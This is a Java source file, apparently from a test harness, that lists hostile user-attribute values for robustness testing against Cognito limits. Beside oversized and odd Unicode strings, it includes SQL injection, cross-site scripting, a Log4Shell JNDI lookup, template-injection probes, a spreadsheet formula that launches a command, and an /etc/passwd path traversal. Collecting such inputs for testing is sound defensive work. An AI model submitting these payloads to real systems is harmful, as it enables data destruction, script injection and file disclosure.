package dev.sluice.rehearsal.user;

import dev.sluice.rehearsal.user.Draw.Topic;

/** Attribute values that Cognito accepts and careless programs do not. */
final class HostileValues {

  /** Cognito developer guide, quotas: an attribute's value has at most 2,048 bytes. */
  static final int LONGEST_BYTES = 2048;

  private static final String[] VALUES = {
    "x".repeat(LONGEST_BYTES),
    "ü".repeat(LONGEST_BYTES / 2),
    "she said \"it's\" \\ `fine`",
    "two\nlines\r\nand\ta tab",
    "bell\u0007 escape\u001b[31mred\u001b[0m unit\u001f",
    "nul\u0000inside",
    "'); DROP TABLE users; --",
    "<script>alert(1)</script><img src=x onerror=alert(1)>&amp;",
    "${jndi:ldap://example.com/a} {{7*7}} %s %n #{1+1}",
    "👩🏽‍🚀🏳️‍🌈 e\u0301 \u200b\u200d",
    "  leading and trailing  ",
    "",
    " ",
    "\u202Eright to left\u202C \u2028 \ufeff",
    "=cmd|' /C calc'!A0",
    "{\"json\":[1,2,{\"in\":\"text\"}]}",
    "a,b;c\t\"d\"",
    "../../etc/passwd\\..\\",
    "null",
    "\u0130stanbul \u1E9E \uFB03"
  };

  private HostileValues() {}

  /** Returns one of the values; another for each number from 0. */
  static String pick(Draw draw, int nth) {
    return VALUES[(draw.below(VALUES.length, Topic.HOSTILE) + nth) % VALUES.length];
  }
}
